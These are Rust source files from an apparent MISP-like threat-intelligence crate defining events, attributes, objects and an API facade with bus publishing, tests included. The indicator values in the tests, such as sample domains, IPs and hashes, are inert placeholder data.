    /// recorded in each comment) for storage in an event.
    pub fn into_attributes(self) -> Vec<MispAttribute> {
        let template = self.template;
        self.attributes
            .into_iter()
            .map(|(relation, mut attribute)| {
                if attribute.comment.is_empty() {
                    attribute.comment = format!("object:{template}/{relation}");
                }
                attribute
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::AttributeCategory;
    use crate::event::MispEvent;

    fn attr(ty: &str, value: &str) -> MispAttribute {
        MispAttribute::new(ty, AttributeCategory::NetworkActivity, value)
    }

    #[test]
    fn unknown_template_is_rejected() {
        assert!(MispObject::new("no-such-template").is_err());
        assert!(MispObject::new("file").is_ok());
    }

    #[test]
    fn relation_type_checking() {
        let mut object = MispObject::new("domain-ip").unwrap();
        // Wrong attribute type for the slot.
        assert!(object.set("domain", attr("ip-dst", "1.2.3.4")).is_err());
        // Unknown relation.
        assert!(object.set("hostname", attr("domain", "a.ru")).is_err());
        // Correct.
        assert!(object.set("domain", attr("domain", "c2.threat.ru")).is_ok());
    }

    #[test]
    fn required_relations_enforced() {
        let mut object = MispObject::new("domain-ip").unwrap();
        object
            .set("domain", attr("domain", "c2.threat.ru"))
            .unwrap();
        assert!(object.validate().is_err(), "ip is required");
        object.set("ip", attr("ip-dst", "45.33.12.7")).unwrap();
        assert!(object.validate().is_ok());
    }

    #[test]
    fn set_replaces_previous_value() {
        let mut object = MispObject::new("url").unwrap();
        object.set("url", attr("url", "http://a.ru/x")).unwrap();
        object.set("url", attr("url", "http://b.ru/y")).unwrap();
        assert_eq!(object.attributes.len(), 1);
        assert_eq!(object.get("url").unwrap().value, "http://b.ru/y");
    }

    #[test]
    fn flattening_into_an_event_preserves_correlation() {
        let mut object = MispObject::new("file").unwrap();
        object
            .set(
                "sha256",
                MispAttribute::new(
                    "sha256",
                    AttributeCategory::PayloadDelivery,
                    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                ),
            )
            .unwrap();
        object
            .set(
                "filename",
                MispAttribute::new("filename", AttributeCategory::PayloadDelivery, "drop.bin"),
            )
            .unwrap();
        object.validate().unwrap();

        let mut event = MispEvent::new("sample");
        for attribute in object.into_attributes() {
            event.add_attribute(attribute);
        }
        assert_eq!(event.attributes.len(), 2);
        assert!(event
            .attributes
            .iter()
            .any(|a| a.comment.starts_with("object:file/")));

        // Stored objects still correlate by value through the store.
        let store = crate::store::MispStore::new();
        let id = store.insert(event).unwrap();
        assert_eq!(
            store.events_with_value(
                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
            ),
            vec![id]
        );
    }

    #[test]
    fn templates_are_well_formed() {
        for tpl in TEMPLATES {
            assert!(!tpl.relations.is_empty(), "{}", tpl.name);
            assert!(
                tpl.relations.iter().any(|r| r.required),
                "{} needs at least one required relation",
                tpl.name
            );
            // Slot types are all known attribute types.
            for slot in tpl.relations {
                assert!(
                    crate::attribute::KNOWN_TYPES.contains(&slot.attr_type),
                    "{}:{} uses unknown type {}",
                    tpl.name,
                    slot.name,
                    slot.attr_type
                );
            }
        }
    }
}
