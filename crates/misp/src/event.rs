//! MISP events: the unit of sharing and correlation.

use cais_common::{Timestamp, Uuid};
use serde::{Deserialize, Serialize};

use crate::attribute::MispAttribute;
use crate::tag::Tag;

/// MISP threat level (1 = high … 4 = undefined).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatLevel {
    /// Level 1.
    High,
    /// Level 2.
    Medium,
    /// Level 3.
    Low,
    /// Level 4.
    Undefined,
}

/// MISP analysis maturity (0 = initial, 1 = ongoing, 2 = complete).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Analysis {
    /// Analysis not started.
    Initial,
    /// Analysis in progress.
    Ongoing,
    /// Analysis finished.
    Complete,
}

/// MISP distribution level, controlling how far an event propagates
/// during synchronization.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Distribution {
    /// Your organization only — never synced.
    OrganizationOnly,
    /// This community only — synced one hop, then pinned.
    CommunityOnly,
    /// Connected communities — synced, downgraded one level per hop.
    ConnectedCommunities,
    /// All communities — synced freely.
    AllCommunities,
}

/// A MISP event: a titled container of attributes.
///
/// # Examples
///
/// ```
/// use cais_misp::{MispEvent, MispAttribute, AttributeCategory, ThreatLevel};
///
/// let mut event = MispEvent::new("OSINT - struts exploitation");
/// event.threat_level = ThreatLevel::High;
/// event.add_attribute(MispAttribute::new(
///     "ip-dst", AttributeCategory::NetworkActivity, "203.0.113.9",
/// ));
/// assert_eq!(event.attributes.len(), 1);
/// ```
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MispEvent {
    /// Store-assigned id (0 until stored).
    pub id: u64,
    /// Globally unique identifier.
    pub uuid: Uuid,
    /// The owning organization.
    pub org: String,
    /// Event title.
    pub info: String,
    /// Event date.
    pub date: Timestamp,
    /// Last modification time.
    pub timestamp: Timestamp,
    /// Threat level.
    pub threat_level: ThreatLevel,
    /// Analysis maturity.
    pub analysis: Analysis,
    /// Distribution level.
    pub distribution: Distribution,
    /// Whether the event has been published.
    pub published: bool,
    /// The attributes.
    #[serde(default, rename = "Attribute")]
    pub attributes: Vec<MispAttribute>,
    /// Event-level tags.
    #[serde(default, rename = "Tag", skip_serializing_if = "Vec::is_empty")]
    pub tags: Vec<Tag>,
}

impl MispEvent {
    /// Creates an unstored event with sensible defaults (undefined
    /// threat level, initial analysis, community distribution).
    pub fn new(info: impl Into<String>) -> Self {
        let now = Timestamp::now();
        MispEvent {
            id: 0,
            uuid: Uuid::new_v4(),
            org: String::new(),
            info: info.into(),
            date: now,
            timestamp: now,
            threat_level: ThreatLevel::Undefined,
            analysis: Analysis::Initial,
            distribution: Distribution::CommunityOnly,
            published: false,
            attributes: Vec::new(),
            tags: Vec::new(),
        }
    }

    /// Appends an attribute, refreshing the event timestamp.
    pub fn add_attribute(&mut self, attribute: MispAttribute) {
        self.timestamp = self.timestamp.max(attribute.timestamp);
        self.attributes.push(attribute);
    }

    /// Adds an event-level tag (idempotent).
    pub fn add_tag(&mut self, tag: Tag) {
        if !self.tags.contains(&tag) {
            self.tags.push(tag);
        }
    }

    /// Finds attributes of a given type.
    pub fn attributes_of_type<'a>(
        &'a self,
        attr_type: &'a str,
    ) -> impl Iterator<Item = &'a MispAttribute> {
        self.attributes
            .iter()
            .filter(move |a| a.attr_type == attr_type)
    }

    /// The first machine-tag value under `cais:threat-score`, parsed —
    /// where the platform stores the paper's TS after enrichment.
    pub fn threat_score(&self) -> Option<f64> {
        // Attribute form takes precedence over the tag form.
        if let Some(attr) = self.attributes_of_type("threat-score").next() {
            if let Ok(score) = attr.value.parse() {
                return Some(score);
            }
        }
        self.tags
            .iter()
            .filter(|t| t.namespace() == Some("cais") && t.predicate() == Some("threat-score"))
            .find_map(|t| t.value()?.parse().ok())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::AttributeCategory;

    #[test]
    fn add_attribute_refreshes_timestamp() {
        let mut event = MispEvent::new("test");
        let later = event.timestamp.add_days(1);
        event.add_attribute(
            MispAttribute::new("text", AttributeCategory::Other, "x").with_timestamp(later),
        );
        assert_eq!(event.timestamp, later);
    }

    #[test]
    fn tags_are_idempotent() {
        let mut event = MispEvent::new("test");
        event.add_tag(Tag::tlp_amber());
        event.add_tag(Tag::tlp_amber());
        assert_eq!(event.tags.len(), 1);
    }

    #[test]
    fn threat_score_from_attribute_or_tag() {
        let mut event = MispEvent::new("test");
        assert_eq!(event.threat_score(), None);
        event.add_tag(Tag::machine("cais", "threat-score", "2.7406"));
        assert_eq!(event.threat_score(), Some(2.7406));
        // Attribute form wins.
        event.add_attribute(MispAttribute::new(
            "threat-score",
            AttributeCategory::InternalReference,
            "3.15",
        ));
        assert_eq!(event.threat_score(), Some(3.15));
    }

    #[test]
    fn attributes_of_type_filters() {
        let mut event = MispEvent::new("test");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "1.1.1.1",
        ));
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            "evil.example",
        ));
        assert_eq!(event.attributes_of_type("ip-dst").count(), 1);
        assert_eq!(event.attributes_of_type("sha256").count(), 0);
    }

    #[test]
    fn distribution_ordering_matches_reach() {
        assert!(Distribution::OrganizationOnly < Distribution::AllCommunities);
    }

    #[test]
    fn serde_uses_misp_field_names() {
        let mut event = MispEvent::new("test");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "1.1.1.1",
        ));
        event.add_tag(Tag::tlp_white());
        let json = serde_json::to_value(&event).unwrap();
        assert!(json.get("Attribute").is_some());
        assert!(json.get("Tag").is_some());
    }
}
