//! The PyMISP-style API facade with zmq-style publishing.
//!
//! "Both OSINT data and Infrastructure Data Collectors send IoCs to the
//! MISP instance of the Operational Module through a set of API
//! provided by the latter … events … trigger a built-in automated, and
//! real-time, sharing mechanism, based on the asynchronous messaging
//! library zeroMQ" (Section IV-A). [`MispApi`] is that API surface;
//! adding or publishing an event pushes it onto the attached
//! [`cais_bus::Broker`] under `misp.event.*` topics.

use std::sync::Arc;

use cais_bus::{Broker, Topic};
use cais_telemetry::{Registry, TraceContext, Tracer};

use crate::attribute::MispAttribute;
use crate::correlation::{correlate_event, Correlation};
use crate::error::MispError;
use crate::event::MispEvent;
use crate::export::ExportRegistry;
use crate::share::ShareExporter;
use crate::store::{MispStore, SearchBackend, SearchQuery, VersionedEvent};

/// The MISP instance facade: store + cached export front-end + event
/// bus.
pub struct MispApi {
    org: String,
    store: Arc<MispStore>,
    share: ShareExporter,
    broker: Option<Broker>,
    tracer: parking_lot::RwLock<Option<Tracer>>,
    search_backend: parking_lot::RwLock<Option<Arc<dyn SearchBackend>>>,
}

impl MispApi {
    /// Creates an instance for the given organization, without a bus.
    pub fn new(org: impl Into<String>) -> Self {
        MispApi {
            org: org.into(),
            store: Arc::new(MispStore::new()),
            share: ShareExporter::default(),
            broker: None,
            tracer: parking_lot::RwLock::new(None),
            search_backend: parking_lot::RwLock::new(None),
        }
    }

    /// Attaches a message bus: every added event is announced on
    /// `misp.event.created`, every published event on
    /// `misp.event.published`.
    pub fn with_broker(mut self, broker: Broker) -> Self {
        self.broker = Some(broker);
        self
    }

    /// The owning organization.
    pub fn org(&self) -> &str {
        &self.org
    }

    /// The underlying store (shared).
    pub fn store(&self) -> &Arc<MispStore> {
        &self.store
    }

    /// The export registry, for installing custom modules. Installing
    /// a module drops cached export bytes (format resolution changes).
    pub fn exports_mut(&mut self) -> &mut ExportRegistry {
        self.share.exports_mut()
    }

    /// The cached share front-end (export byte cache, pull memos,
    /// combined STIX bundles).
    pub fn share(&self) -> &ShareExporter {
        &self.share
    }

    /// Attaches telemetry to the whole MISP seam: store mutation
    /// counters plus `share_*` cache metrics.
    pub fn instrument(&self, registry: &Registry) {
        self.store.instrument(registry);
        self.share.instrument(registry);
    }

    /// Attaches a causal tracer to the whole MISP seam: store mutations
    /// record `store` spans, share cache fills record `share` spans,
    /// and bus announcements chain onto the mutated event's trace.
    pub fn set_tracer(&self, tracer: &Tracer) {
        self.store.set_tracer(tracer);
        self.share.set_tracer(tracer);
        *self.tracer.write() = Some(tracer.clone());
    }

    /// The attached tracer, if any.
    pub fn tracer(&self) -> Option<Tracer> {
        self.tracer.read().clone()
    }

    /// Adds an event, stamping the organization, and announces it on the
    /// bus.
    ///
    /// # Errors
    ///
    /// Returns validation errors from the store.
    pub fn add_event(&self, event: MispEvent) -> Result<u64, MispError> {
        self.add_event_with_trace(event, None)
    }

    /// [`MispApi::add_event`] recorded as a child of `parent` when a
    /// tracer is attached — ingress seams (sync push, feed ingest) pass
    /// their span here so the store mutation and bus announcement stay
    /// in the caller's trace.
    ///
    /// # Errors
    ///
    /// Returns validation errors from the store.
    pub fn add_event_with_trace(
        &self,
        mut event: MispEvent,
        parent: Option<TraceContext>,
    ) -> Result<u64, MispError> {
        event.org = self.org.clone();
        let id = self.store.insert_with_trace(event, parent)?;
        self.announce("misp.event.created", id);
        Ok(id)
    }

    /// Fetches an event.
    pub fn get_event(&self, id: u64) -> Option<MispEvent> {
        self.store.get(id)
    }

    /// Appends an attribute to an existing event and re-announces it.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] or validation errors.
    pub fn add_attribute(&self, event_id: u64, attribute: MispAttribute) -> Result<(), MispError> {
        attribute.validate()?;
        self.update_event(event_id, |event| {
            event.add_attribute(attribute);
        })
    }

    /// Applies an arbitrary in-place edit to an event and announces it
    /// once on `misp.event.updated` — the batched alternative to a
    /// sequence of [`MispApi::add_attribute`] calls, paying for one
    /// store update and one announcement however many attributes and
    /// tags the closure applies. The closure is NOT re-validated;
    /// callers adding attributes should validate them first.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids.
    pub fn update_event<F: FnOnce(&mut MispEvent)>(
        &self,
        event_id: u64,
        f: F,
    ) -> Result<(), MispError> {
        self.store.update(event_id, f)?;
        self.announce("misp.event.updated", event_id);
        Ok(())
    }

    /// Publishes an event (marks it published, announces on the bus).
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids.
    pub fn publish_event(&self, id: u64) -> Result<(), MispError> {
        self.store.update(id, |event| event.published = true)?;
        self.announce("misp.event.published", id);
        Ok(())
    }

    /// Attaches a search backend (the `cais-search` inverted index);
    /// [`MispApi::search`] routes through it from then on. The backend
    /// must uphold the [`SearchBackend`] equivalence contract against
    /// [`MispApi::search_linear`].
    pub fn set_search_backend(&self, backend: Arc<dyn SearchBackend>) {
        *self.search_backend.write() = Some(backend);
    }

    /// Events whose attributes carry the exact (normalized) value, as
    /// zero-clone versioned handles ordered by event id — straight off
    /// the correlation index, no event walk, no body clones.
    pub fn search_value(&self, value: &str) -> Vec<VersionedEvent> {
        let mut ids = self.store.events_with_value(value);
        ids.sort_unstable();
        ids.dedup();
        ids.into_iter()
            .filter_map(|id| self.store.versioned(id))
            .collect()
    }

    /// Events whose attributes carry the exact value, deep-cloned as
    /// `(event_id, event)` pairs.
    #[deprecated(note = "use search_value() for zero-clone versioned results")]
    pub fn search_value_cloned(&self, value: &str) -> Vec<(u64, MispEvent)> {
        self.search_value(value)
            .into_iter()
            .map(|v| (v.event.id, (*v.event).clone()))
            .collect()
    }

    /// Filtered search over events, as zero-clone versioned handles
    /// ordered by event id. Routes through the attached
    /// [`SearchBackend`] when one is set (the `cais-search` inverted
    /// index: O(postings) per term instead of a full scan), else falls
    /// back to the linear scan — both produce identical results, a
    /// contract the search crate's equivalence property tests enforce.
    pub fn search(&self, query: &SearchQuery) -> Vec<VersionedEvent> {
        if let Some(backend) = self.search_backend.read().clone() {
            return backend.search_query(&self.store, query);
        }
        self.store.search_linear(query)
    }

    /// Filtered search by linear scan, bypassing any attached backend —
    /// the reference baseline the indexed path is tested against.
    pub fn search_linear(&self, query: &SearchQuery) -> Vec<VersionedEvent> {
        self.store.search_linear(query)
    }

    /// The correlations of one event against the rest of the store.
    pub fn correlations(&self, event_id: u64) -> Vec<Correlation> {
        correlate_event(&self.store, event_id)
    }

    /// Exports an event in a named format (`misp-json`, `stix2`, `csv`).
    /// Served from the share cache: repeated exports of an unchanged
    /// event replay stored bytes instead of re-serializing.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids and
    /// conversion errors from the module; unknown formats yield
    /// `Ok(None)` from the registry and surface here as
    /// [`MispError::Json`]-free `None`.
    pub fn export_event(&self, id: u64, format: &str) -> Result<Option<String>, MispError> {
        Ok(self
            .export_event_bytes(id, format)?
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned()))
    }

    /// Byte-level export through the share cache: the `Arc<[u8]>` is
    /// shared with the cache, so serving it clones no event and copies
    /// no bytes.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids and
    /// conversion errors from the module.
    pub fn export_event_bytes(
        &self,
        id: u64,
        format: &str,
    ) -> Result<Option<Arc<[u8]>>, MispError> {
        self.share.export_event_bytes(&self.store, id, format)
    }

    /// Announces an event on the bus (no-op without a broker). Exposed
    /// crate-internally so the sync apply path can announce merges the
    /// same way API mutations do.
    pub(crate) fn announce(&self, topic: &str, event_id: u64) {
        if let Some(broker) = &self.broker {
            // Serialize the payload under the store's read lock instead
            // of cloning the whole event out first.
            if let Some(Ok(payload)) = self
                .store
                .with_event(event_id, |event| serde_json::to_value(event))
            {
                // Chain the publish onto the event's trace (linked at
                // insert/update) so bus fan-out joins the span tree.
                let parent = self.tracer.read().as_ref().and_then(|t| {
                    let uuid = self.store.with_event(event_id, |event| event.uuid)?;
                    t.linked(&uuid.to_string())
                });
                broker.publish_traced(Topic::new(topic), payload, parent);
            }
        }
    }
}

impl std::fmt::Debug for MispApi {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("MispApi")
            .field("org", &self.org)
            .field("events", &self.store.len())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::AttributeCategory;

    fn event(info: &str, value: &str) -> MispEvent {
        let mut e = MispEvent::new(info);
        e.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            value,
        ));
        e
    }

    #[test]
    fn add_stamps_org_and_searches() {
        let api = MispApi::new("ACME");
        let id = api.add_event(event("a", "evil.example")).unwrap();
        let stored = api.get_event(id).unwrap();
        assert_eq!(stored.org, "ACME");
        assert_eq!(api.search_value("evil.example").len(), 1);
    }

    #[test]
    fn bus_announcements() {
        let broker = Broker::new();
        let sub = broker.subscribe("misp.event.*");
        let api = MispApi::new("ACME").with_broker(broker);
        let id = api.add_event(event("a", "evil.example")).unwrap();
        api.publish_event(id).unwrap();
        let messages = sub.drain();
        assert_eq!(messages.len(), 2);
        assert_eq!(messages[0].topic.as_str(), "misp.event.created");
        assert_eq!(messages[1].topic.as_str(), "misp.event.published");
        // Payload is the full event, decodable.
        let decoded: MispEvent = messages[1].decode().unwrap();
        assert!(decoded.published);
    }

    #[test]
    fn add_attribute_updates_and_announces() {
        let broker = Broker::new();
        let sub = broker.subscribe("misp.event.updated");
        let api = MispApi::new("ACME").with_broker(broker);
        let id = api.add_event(event("a", "evil.example")).unwrap();
        api.add_attribute(
            id,
            MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "203.0.113.9"),
        )
        .unwrap();
        assert_eq!(sub.drain().len(), 1);
        assert_eq!(api.get_event(id).unwrap().attributes.len(), 2);
    }

    #[test]
    fn export_via_registry() {
        let api = MispApi::new("ACME");
        let id = api.add_event(event("a", "evil.example")).unwrap();
        let json = api.export_event(id, "misp-json").unwrap().unwrap();
        assert!(json.contains("evil.example"));
        let stix = api.export_event(id, "stix2").unwrap().unwrap();
        assert!(stix.contains("bundle"));
        assert!(api.export_event(id, "nonexistent").unwrap().is_none());
        assert!(api.export_event(999, "csv").is_err());
    }

    #[test]
    fn repeat_exports_replay_cached_bytes() {
        let api = MispApi::new("ACME");
        let id = api.add_event(event("a", "evil.example")).unwrap();
        let first = api.export_event_bytes(id, "misp-json").unwrap().unwrap();
        let second = api.export_event_bytes(id, "misp-json").unwrap().unwrap();
        assert!(Arc::ptr_eq(&first, &second));
        assert_eq!(api.share().stats().hits, 1);

        // Updating the event changes its version: fresh bytes.
        api.update_event(id, |e| e.info = "renamed".into()).unwrap();
        let third = api.export_event_bytes(id, "misp-json").unwrap().unwrap();
        assert!(!Arc::ptr_eq(&first, &third));
        assert!(String::from_utf8_lossy(&third).contains("renamed"));
    }

    #[test]
    fn correlations_through_api() {
        let api = MispApi::new("ACME");
        let a = api.add_event(event("a", "shared.example")).unwrap();
        let b = api.add_event(event("b", "shared.example")).unwrap();
        let hits = api.correlations(a);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].other_event_id, b);
    }
}
