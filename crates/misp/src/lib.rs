//! # cais-misp
//!
//! A MISP-like threat-intelligence platform: the event/attribute/tag
//! data model, an indexed in-memory store, MISP's value-based
//! correlation, import from feeds and STIX, export modules (MISP JSON,
//! STIX 2.0, CSV), a PyMISP-style API facade with zmq-style publishing
//! over [`cais_bus`], and instance-to-instance synchronization with
//! distribution levels.
//!
//! The paper's Operational Module is "a MISP instance … composed of a
//! collector entity (for both OSINT and infrastructure data), and a
//! relational database to store locally information about IoCs and the
//! monitored infrastructure", whose events reach the Heuristic
//! Component through "a built-in automated, and real-time, sharing
//! mechanism, based on the asynchronous messaging library zeroMQ"
//! (Sections III-B1, IV-A). This crate is that instance.
//!
//! # Examples
//!
//! ```
//! use cais_misp::{MispApi, MispEvent, MispAttribute, AttributeCategory};
//!
//! let api = MispApi::new("ACME-MISP");
//! let mut event = MispEvent::new("OSINT - struts exploitation");
//! event.add_attribute(MispAttribute::new(
//!     "vulnerability", AttributeCategory::ExternalAnalysis, "CVE-2017-9805",
//! ));
//! let id = api.add_event(event)?;
//! let found = api.search_value("CVE-2017-9805");
//! assert_eq!(found.len(), 1);
//! assert_eq!(found[0].event.id, id);
//! # Ok::<(), cais_misp::MispError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod api;
pub mod attribute;
pub mod correlation;
pub mod error;
pub mod event;
pub mod export;
pub mod import;
pub mod object;
pub mod share;
pub mod store;
pub mod sync;
pub mod tag;
pub mod warninglist;

pub use api::MispApi;
pub use attribute::{AttributeCategory, MispAttribute};
pub use error::MispError;
pub use event::{Analysis, Distribution, MispEvent, ThreatLevel};
pub use share::{ShareCacheStats, ShareExporter};
pub use store::{
    MergeOutcome, MispStore, SearchBackend, SearchQuery, StoreSnapshot, VersionedEvent,
};
pub use sync::{ApplyOutcome, ResilientSyncReport, SyncReport};
pub use tag::Tag;
