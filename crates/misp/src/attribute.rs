//! MISP attributes: typed indicator values attached to events.

use cais_common::{ObservableKind, Timestamp, Uuid};
use serde::{Deserialize, Serialize};

use crate::error::MispError;
use crate::tag::Tag;

/// The MISP attribute categories used by this platform.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttributeCategory {
    /// Network-level indicators (IPs, domains, URLs).
    #[serde(rename = "Network activity")]
    NetworkActivity,
    /// File artifacts (hashes, filenames).
    #[serde(rename = "Payload delivery")]
    PayloadDelivery,
    /// Third-party analysis results (CVEs, links).
    #[serde(rename = "External analysis")]
    ExternalAnalysis,
    /// Persistence and installation artifacts.
    #[serde(rename = "Persistence mechanism")]
    PersistenceMechanism,
    /// Attribution information.
    #[serde(rename = "Attribution")]
    Attribution,
    /// Internal reference/bookkeeping values.
    #[serde(rename = "Internal reference")]
    InternalReference,
    /// Anything else.
    #[serde(rename = "Other")]
    Other,
}

impl AttributeCategory {
    /// The MISP display name — identical to the serde wire form
    /// (`"Network activity"` etc.), so matching on `name()` matches
    /// what exports and imports carry.
    pub fn name(self) -> &'static str {
        match self {
            AttributeCategory::NetworkActivity => "Network activity",
            AttributeCategory::PayloadDelivery => "Payload delivery",
            AttributeCategory::ExternalAnalysis => "External analysis",
            AttributeCategory::PersistenceMechanism => "Persistence mechanism",
            AttributeCategory::Attribution => "Attribution",
            AttributeCategory::InternalReference => "Internal reference",
            AttributeCategory::Other => "Other",
        }
    }
}

/// The attribute types this platform recognizes, a practical subset of
/// MISP's registry.
pub const KNOWN_TYPES: &[&str] = &[
    "ip-src",
    "ip-dst",
    "domain",
    "hostname",
    "url",
    "email-src",
    "email-dst",
    "md5",
    "sha1",
    "sha256",
    "filename",
    "vulnerability",
    "text",
    "comment",
    "link",
    "threat-score",
];

/// A typed indicator value within an event.
///
/// # Examples
///
/// ```
/// use cais_misp::{MispAttribute, AttributeCategory};
///
/// let attr = MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "203.0.113.9");
/// assert!(attr.validate().is_ok());
/// assert!(attr.to_ids);
/// ```
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MispAttribute {
    /// Attribute UUID.
    pub uuid: Uuid,
    /// The MISP type name (see [`KNOWN_TYPES`]).
    #[serde(rename = "type")]
    pub attr_type: String,
    /// The MISP category.
    pub category: AttributeCategory,
    /// The value.
    pub value: String,
    /// Whether the value is actionable for detection (exported to IDS).
    pub to_ids: bool,
    /// Free-text comment.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub comment: String,
    /// Last modification time.
    pub timestamp: Timestamp,
    /// Attached tags.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub tags: Vec<Tag>,
}

impl MispAttribute {
    /// Creates an attribute. Detection-grade types (`ip-*`, `domain`,
    /// `url`, hashes) default to `to_ids = true`; contextual types do
    /// not.
    pub fn new(
        attr_type: impl Into<String>,
        category: AttributeCategory,
        value: impl Into<String>,
    ) -> Self {
        let attr_type = attr_type.into();
        let to_ids = matches!(
            attr_type.as_str(),
            "ip-src" | "ip-dst" | "domain" | "hostname" | "url" | "md5" | "sha1" | "sha256"
        );
        MispAttribute {
            uuid: Uuid::new_v4(),
            attr_type,
            category,
            value: value.into(),
            to_ids,
            comment: String::new(),
            timestamp: Timestamp::now(),
            tags: Vec::new(),
        }
    }

    /// Sets the comment, builder-style.
    pub fn with_comment(mut self, comment: impl Into<String>) -> Self {
        self.comment = comment.into();
        self
    }

    /// Adds a tag, builder-style.
    pub fn with_tag(mut self, tag: Tag) -> Self {
        self.tags.push(tag);
        self
    }

    /// Sets the timestamp, builder-style.
    pub fn with_timestamp(mut self, timestamp: Timestamp) -> Self {
        self.timestamp = timestamp;
        self
    }

    /// Validates the type is known and the value is syntactically
    /// plausible for it.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::UnknownAttributeType`] or
    /// [`MispError::InvalidAttributeValue`].
    pub fn validate(&self) -> Result<(), MispError> {
        if !KNOWN_TYPES.contains(&self.attr_type.as_str()) {
            return Err(MispError::UnknownAttributeType {
                attr_type: self.attr_type.clone(),
            });
        }
        let expected_kind = match self.attr_type.as_str() {
            "ip-src" | "ip-dst" => Some(&[ObservableKind::Ipv4, ObservableKind::Ipv6][..]),
            "domain" | "hostname" => Some(&[ObservableKind::Domain][..]),
            "url" => Some(&[ObservableKind::Url][..]),
            "email-src" | "email-dst" => Some(&[ObservableKind::Email][..]),
            "md5" => Some(&[ObservableKind::Md5][..]),
            "sha1" => Some(&[ObservableKind::Sha1][..]),
            "sha256" => Some(&[ObservableKind::Sha256][..]),
            "vulnerability" => Some(&[ObservableKind::Cve][..]),
            _ => None, // free-text types
        };
        if let Some(kinds) = expected_kind {
            match ObservableKind::detect(&self.value) {
                Some(kind) if kinds.contains(&kind) => {}
                _ => {
                    return Err(MispError::InvalidAttributeValue {
                        attr_type: self.attr_type.clone(),
                        value: self.value.clone(),
                    })
                }
            }
        }
        Ok(())
    }

    /// The correlation key: attributes with equal keys correlate across
    /// events (MISP correlates on exact value match).
    pub fn correlation_key(&self) -> String {
        self.value.trim().to_ascii_lowercase()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detection_types_default_to_ids() {
        assert!(MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "1.1.1.1").to_ids);
        assert!(!MispAttribute::new("comment", AttributeCategory::Other, "note").to_ids);
    }

    #[test]
    fn validation_accepts_well_typed_values() {
        for (ty, value) in [
            ("ip-dst", "203.0.113.9"),
            ("domain", "evil.example"),
            ("url", "http://evil.example/x"),
            ("md5", "d41d8cd98f00b204e9800998ecf8427e"),
            ("vulnerability", "CVE-2017-9805"),
            ("text", "anything goes"),
            ("threat-score", "2.7406"),
        ] {
            let attr = MispAttribute::new(ty, AttributeCategory::Other, value);
            assert!(attr.validate().is_ok(), "{ty} {value}");
        }
    }

    #[test]
    fn validation_rejects_mistyped_values() {
        for (ty, value) in [
            ("ip-dst", "evil.example"),
            ("domain", "203.0.113.9"),
            ("md5", "not-a-hash"),
            ("vulnerability", "not-a-cve"),
        ] {
            let attr = MispAttribute::new(ty, AttributeCategory::Other, value);
            assert!(
                matches!(
                    attr.validate(),
                    Err(MispError::InvalidAttributeValue { .. })
                ),
                "{ty} {value}"
            );
        }
    }

    #[test]
    fn unknown_type_rejected() {
        let attr = MispAttribute::new("frobnicator", AttributeCategory::Other, "x");
        assert!(matches!(
            attr.validate(),
            Err(MispError::UnknownAttributeType { .. })
        ));
    }

    #[test]
    fn correlation_key_normalizes() {
        let a = MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            " Evil.Example ",
        );
        let b = MispAttribute::new("domain", AttributeCategory::NetworkActivity, "evil.example");
        assert_eq!(a.correlation_key(), b.correlation_key());
    }

    #[test]
    fn category_serializes_with_misp_names() {
        let attr = MispAttribute::new("ip-dst", AttributeCategory::NetworkActivity, "1.1.1.1");
        let json = serde_json::to_value(&attr).unwrap();
        assert_eq!(json["category"], "Network activity");
        assert_eq!(json["type"], "ip-dst");
    }
}
