//! The indexed in-memory event store — MISP's "relational database".

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};

use cais_common::{Timestamp, Uuid};
use cais_telemetry::{Counter, Registry};
use parking_lot::RwLock;

use crate::attribute::MispAttribute;
use crate::error::MispError;
use crate::event::MispEvent;

/// Cached telemetry handles for an instrumented store.
///
/// Counters are *outcome-level*: they track what ended up in the store
/// (events inserted, attributes/tags written, publish transitions),
/// not how many API calls produced it — so a path that pre-builds an
/// event and inserts it once reports exactly what a path that inserts
/// then updates does.
#[derive(Debug)]
struct StoreMetrics {
